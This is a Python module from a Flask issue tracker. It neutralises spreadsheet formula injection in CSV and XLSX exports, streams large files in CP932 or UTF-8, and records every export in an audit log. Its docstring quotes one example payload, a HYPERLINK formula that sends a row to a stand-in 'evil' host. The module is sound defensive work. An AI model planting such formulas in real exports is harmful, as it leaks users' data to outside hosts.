"""Exports that are safe to open in Excel: user text is always text, never a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "詳細")`` sends the row away when clicked). Every
CSV and XLSX export goes through here:

- ``csv_writer(stream)``: a ``csv.writer`` whose text cells get a leading ``'`` when they start like that;
- ``xlsx_append(sheet, row)`` / ``xlsx_cell(sheet, row, column, value)``: text cells are typed as strings
  (openpyxl would otherwise store ``"=..."`` as a formula) and marked "quote prefix", as Excel does for
  text typed after ``'``.

Numbers, dates and booleans are left as they are, so they stay numbers and dates in the sheet.

Every export that lists data (CSV, XLSX, iCalendar, PDF) is also an entry of the audit log: who took which list,
with which filter, how many rows. A feature declares its list once (``TICKETS = exported_list("tickets",
_l("Ticket list exported"))``) and answers with ``send(TICKETS, body, rows=..., filename=...)``, which records
``export.tickets`` and builds the attachment response. tests/access/test_export_audit.py requests every GET route
and fails for a download of one of these types that was not recorded, so a new export cannot forget it.
"""
from __future__ import annotations

import codecs
import csv
import io
import itertools
import re
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

from flask import Response, request, stream_with_context
from flask_login import current_user

from tracker.core import audit
from tracker.core.requestlog import REDACTED, SECRET_PARAMETERS
from tracker.extensions import db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# "-3" or "+1.5" written as text (a formatted number) is a number to Excel, not a formula.
_FORMULA_FIRST = frozenset(FORMULA_STARTS)  # each one character
_PLAIN_NUMBER = re.compile(r"^[-+]?\d+(?:[.,]\d+)*$")


def starts_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value)


def safe_text(value):
    """``value`` for a CSV cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _SafeWriter:
    options.setdefault("lineterminator", "\r\n")
    return _SafeWriter(csv.writer(stream, **options))


# CSV encodings a list can be downloaded in (Redmine's ``encoding=`` parameter): UTF-8 with a BOM (Excel reads
# Japanese right with it), or Shift_JIS as Windows writes it (CP932), which older Excel versions expect.
# Redmine in Japanese names the latter "Shift_JIS" in its form and exports CP932.
CSV_ENCODINGS = {"utf-8": "utf-8-sig", "utf8": "utf-8-sig", "shift_jis": "cp932", "sjis": "cp932", "cp932": "cp932",
                 "windows-31j": "cp932", "ms932": "cp932"}
DEFAULT_CSV_ENCODING = "utf-8"
MISSING_IN_CP932 = "〓"  # the geta mark: what Japanese printing puts where a character is missing


def _visible_replacement(error: UnicodeEncodeError):
    return MISSING_IN_CP932 * (error.end - error.start), error.end


codecs.register_error("tracker-geta", _visible_replacement)


def csv_codec(name: str | None) -> str | None:
    """The Python codec for an ``encoding=`` value, or None when it is not one offered."""
    return CSV_ENCODINGS.get((name or DEFAULT_CSV_ENCODING).strip().lower())


def csv_chunks(rows, codec: str = "utf-8-sig", rows_per_chunk: int = 1000):
    """Encoded pieces of a CSV file, for a streamed response: ``rows`` (an iterable of lists) are written
    with the formula rule of ``csv_writer`` and encoded every ``rows_per_chunk`` rows. A character that
    CP932 lacks (𠮷, emoji, some symbols) becomes 〓, so the reader sees that something was there."""
    encoder = codecs.getincrementalencoder(codec)(errors="strict" if codec.startswith("utf") else "tracker-geta")
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    rows = iter(rows)
    for head in rows:  # the header goes out alone: the download starts at once
        writer.writerow(_safe_row(head))
        yield encoder.encode(buffer.getvalue())
        break
    while True:
        buffer.seek(0)
        buffer.truncate()
        writer.writerows(map(_safe_row, itertools.islice(rows, rows_per_chunk)))
        text = buffer.getvalue()
        if not text:
            break
        yield encoder.encode(text)
    yield encoder.encode("", final=True)


def _safe_row(row) -> list:
    """``row`` with ``safe_text`` applied to each cell (inline: a CSV of 100,000 rows has a million cells)."""
    return [("'" + value if value[:1] in _FORMULA_FIRST and not _PLAIN_NUMBER.match(value) else value)
            if isinstance(value, str) else value for value in row]


def _as_text(cell) -> None:
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_like_formula(cell.value):
            cell.quotePrefix = True


def xlsx_cell(sheet, row: int, column: int, value=None):
    cell = sheet.cell(row=row, column=column, value=value)
    _as_text(cell)
    return cell


def xlsx_append(sheet, values) -> None:
    """``sheet.append(values)`` with every text cell kept as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        _as_text(cell)


def xlsx_row(sheet, values, number_formats: dict[int, str] | None = None) -> list:
    """One row for a write-only sheet (``Workbook(write_only=True)``, rows go to disk as they are appended):
    text cells typed as text as ``xlsx_append`` does, ``number_formats`` by column index (0-based)."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for index, value in enumerate(values):
        cell = WriteOnlyCell(sheet, value=value)
        _as_text(cell)
        if number_formats and index in number_formats and value is not None:
            cell.number_format = number_formats[index]
        row.append(cell)
    return row


class _Sink:
    """The file that ``zipfile`` writes a streamed archive into: it cannot seek (so every member gets a data
    descriptor), and what was written is taken away piece by piece."""

    def __init__(self):
        self.pieces: list[bytes] = []

    def write(self, data) -> int:
        self.pieces.append(bytes(data))
        return len(data)

    def flush(self) -> None:
        pass

    def take(self) -> bytes:
        data, self.pieces = b"".join(self.pieces), []
        return data


_ILLEGAL_XML = re.compile(r"[\000-\010\013\014\016-\037]")  # control characters XML 1.0 cannot hold
_DATE_FORMAT, _DATETIME_FORMAT = "yyyy-mm-dd", "yyyy-mm-dd h:mm:ss"  # openpyxl's for cells without a format


def _xml_text(value: str) -> str:
    if _ILLEGAL_XML.search(value):
        value = _ILLEGAL_XML.sub("", value)
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xlsx_chunks(title: str, head: list, rows, *, number_formats: dict[int, str] | None = None,
                widths: dict[int, float] | None = None, freeze: str | None = None, rows_per_chunk: int = 500):
    """A one-sheet workbook, streamed: the bytes of the .xlsx file, the first at once, then as ``rows`` are read
    (an iterable of lists: text, numbers, dates and datetimes (naive, already in the user's timezone), None); the
    worker holds one chunk of rows at a time, whatever the file's size.

    openpyxl makes the workbook's small parts (content types, workbook, styles with the header's bold font and the
    date formats, the sheet's column widths and frozen panes) and the sheet's XML rows are written here, as
    openpyxl's write-only mode writes them (inline strings, dates as serial numbers with a number format), into a
    ZIP written while it is sent (the standard library's ``zipfile`` on a stream that cannot seek: each member's
    sizes follow it in a data descriptor, and no Zip64 is written, which Excel reads only in a strict form; a sheet
    over 4 GiB is refused). Text is always text with Excel's "quote prefix" when it starts like a formula, as
    ``xlsx_row`` does; control characters that XML cannot hold are dropped. ``number_formats`` and ``widths`` are by
    column index (0-based); ``freeze`` is the top-left cell of the scrolling pane ("B2")."""
    import zipfile

    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter
    from openpyxl.utils.datetime import to_excel

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    for index, width in (widths or {}).items():
        sheet.column_dimensions[get_column_letter(index + 1)].width = width
    if freeze:
        sheet.freeze_panes = freeze

    def style(bold=False, quote=False, number_format=None) -> str:
        cell = WriteOnlyCell(sheet)
        if bold:
            cell.font = Font(bold=True)
        if quote:
            cell.quotePrefix = True
        if number_format:
            cell.number_format = number_format
        return f' s="{cell.style_id}"'

    head_style, head_quoted, quoted = style(bold=True), style(bold=True, quote=True), style(quote=True)
    formats = {index: style(number_format=f) for index, f in (number_formats or {}).items()}
    default_date, default_datetime = style(number_format=_DATE_FORMAT), style(number_format=_DATETIME_FORMAT)
    skeleton = io.BytesIO()
    book.save(skeleton)
    with zipfile.ZipFile(skeleton) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet_name = "xl/worksheets/sheet1.xml"
    sheet_xml = parts.pop(sheet_name).decode("utf-8")
    empty = "<sheetData/>" if "<sheetData/>" in sheet_xml else "<sheetData></sheetData>"
    before, after = sheet_xml.split(empty)
    letters: list[str] = []

    def row_xml(number: int, values, text_style: str, quote_style: str, date_styles: dict, plain_date: str,
                plain_datetime: str) -> str:
        while len(letters) < len(values):
            letters.append(get_column_letter(len(letters) + 1))
        out = [f'<row r="{number}">']
        for index, value in enumerate(values):
            if value is None or value == "":
                continue
            ref = f"{letters[index]}{number}"
            kind = type(value)
            if kind is str or isinstance(value, str):
                value = str(value)
                shown = quote_style if starts_like_formula(value) else text_style
                out.append(f'<c r="{ref}"{shown} t="inlineStr"><is><t xml:space="preserve">{_xml_text(value)}</t></is></c>')
            elif kind is bool:
                out.append(f'<c r="{ref}"{text_style} t="b"><v>{int(value)}</v></c>')
            elif kind is int:
                out.append(f'<c r="{ref}"{text_style} t="n"><v>{value}</v></c>')
            elif isinstance(value, (int, float, Decimal)):
                out.append(f'<c r="{ref}"{text_style} t="n"><v>{float(value):.16g}</v></c>')
            elif isinstance(value, (datetime, date)):
                if isinstance(value, datetime) and value.tzinfo is not None:
                    raise TypeError("a datetime for a sheet is naive, in the user's timezone")
                shown = date_styles.get(index) or (plain_datetime if isinstance(value, datetime) else plain_date)
                out.append(f'<c r="{ref}"{shown} t="n"><v>{to_excel(value):.16g}</v></c>')
            else:
                out.append(f'<c r="{ref}"{text_style} t="inlineStr"><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>')
        out.append("</row>")
        return "".join(out)

    sink = _Sink()
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name in ("[Content_Types].xml", *sorted(n for n in parts if n != "[Content_Types].xml")):
            if name in parts:
                archive.writestr(name, parts[name])
        import time

        info = zipfile.ZipInfo(sheet_name, time.localtime()[:6])  # dated as writestr dates the small parts
        info.compress_type = zipfile.ZIP_DEFLATED
        # the level's attribute is compress_level from Python 3.13, _compresslevel before
        setattr(info, "compress_level" if hasattr(zipfile.ZipInfo, "compress_level") else "_compresslevel", 1)
        with archive.open(info, "w") as member:
            member.write((before + "<sheetData>" + row_xml(1, [str(h) for h in head], head_style, head_quoted, {},
                                                           head_style, head_style)).encode("utf-8"))
            yield sink.take()  # the small parts, so the download starts at once
            number, pending = 1, []
            for values in rows:
                number += 1
                pending.append(row_xml(number, values, "", quoted, formats, default_date, default_datetime))
                if len(pending) >= rows_per_chunk:
                    member.write("".join(pending).encode("utf-8"))
                    pending = []
                    if sink.pieces:
                        yield sink.take()
            member.write(("".join(pending) + "</sheetData>" + after).encode("utf-8"))
    yield sink.take()


# What an export is, by the file it gives: the audit test recognises exports by these types.
EXPORT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "ics": "text/calendar",
    "pdf": "application/pdf",
}


@dataclass(frozen=True)
class ExportedList:
    name: str

    @property
    def action(self) -> str:
        return f"export.{self.name}"


def exported_list(name: str, label) -> ExportedList:
    """Declare a list that can be exported, in the feature that exports it: its audit action is
    ``export.<name>``, shown in the audit log with ``label``."""
    audit.register_action(f"export.{name}", label, "export")
    return ExportedList(name)


def request_filter() -> dict:
    """The request's query parameters as the list was asked for ({name: value}, or a list for a repeated
    name), readable in the audit log (no percent-encoding) and enough to replay it; secrets such as ``key``
    are redacted."""
    found = {}
    for name in request.args:
        values = [REDACTED] if name.lower() in SECRET_PARAMETERS else request.args.getlist(name)
        found[name] = values[0] if len(values) == 1 else values
    return found


def record_export(exported: ExportedList, *, rows: int, file_format: str, wg_id: int | None = None) -> None:
    """Enter this request's export in the audit log and commit it.

    An export is a GET, and a GET never writes, with this one exception: the single INSERT of the export's
    audit entry. Nothing else in the request commits, so it is committed here; the GET matrix of tests/access
    allows exactly this statement and still refuses every other write. A HEAD request gets no file, so no entry."""
    if request.method == "HEAD":
        return
    actor = current_user._get_current_object() if current_user.is_authenticated else None
    audit.record(exported.action, actor=actor, wg_id=wg_id, details={
        "list": exported.name,
        "filter": request_filter(),
        "rows": rows,
        "format": file_format,
    })
    db.session.commit()


def send(exported: ExportedList, body: bytes, *, rows: int, filename: str, wg_id: int | None = None) -> Response:
    """The download of an export, recorded first (``record_export``). ``rows`` is how many items of the list
    the file holds (tickets, ideas, people, events), counted by the caller from what it wrote.
    The file's type comes from ``filename``'s extension (``EXPORT_TYPES``)."""
    file_format = filename.rsplit(".", 1)[-1].lower()
    record_export(exported, rows=rows, file_format=file_format, wg_id=wg_id)
    response = Response(body, mimetype=EXPORT_TYPES[file_format])
    response.headers.set("Content-Disposition", "attachment", filename=filename)
    return response


def send_stream(exported: ExportedList, chunks, *, rows: int, filename: str, wg_id: int | None = None,
                charset: str | None = None) -> Response:
    """``send`` for a file written while it is sent: ``chunks`` (a generator of bytes) runs inside the request
    (``stream_with_context``), so it may read the database in batches; the worker never holds the whole file.
    The audit entry is committed before the first byte. ``charset`` overrides the CSV type's (Shift_JIS)."""
    file_format = filename.rsplit(".", 1)[-1].lower()
    record_export(exported, rows=rows, file_format=file_format, wg_id=wg_id)
    content_type = EXPORT_TYPES[file_format]
    if charset:
        content_type = f"{content_type.split(';')[0]}; charset={charset}"
    response = Response(stream_with_context(chunks), content_type=content_type)
    response.headers.set("Content-Disposition", "attachment", filename=filename)
    return response
